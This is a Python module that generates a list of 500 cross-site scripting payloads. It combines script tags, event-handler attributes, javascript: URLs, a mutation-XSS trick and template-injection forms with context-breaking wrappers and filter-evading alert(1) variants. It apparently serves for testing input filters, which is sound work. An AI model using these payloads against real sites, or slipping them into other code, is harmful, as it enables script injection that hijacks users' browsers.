"""Strings with which pages have been broken: markup in every place, script in every guise; made by rule, five hundred of them."""

from itertools import product

_SCRIPTS = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "eval('alert(1)')", "import('data:text/javascript,alert(1)')")
_MARKUP = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<iframe src=javascript:{}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<a href=javascript:{}>点这里</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}>",
    "<object data='data:text/html,<script>{}</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=javascript:{}//>",
    "<style>@import 'javascript:{}';</style>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "<%= {} %>",
)
_WRAPPED = ("{}", "'\"><{}", "</textarea>{}", "]]>{}", "<!--{}-->")
PAYLOADS = [wrap.format(markup.format(script)) for wrap, markup, script in product(_WRAPPED, _MARKUP, _SCRIPTS)]
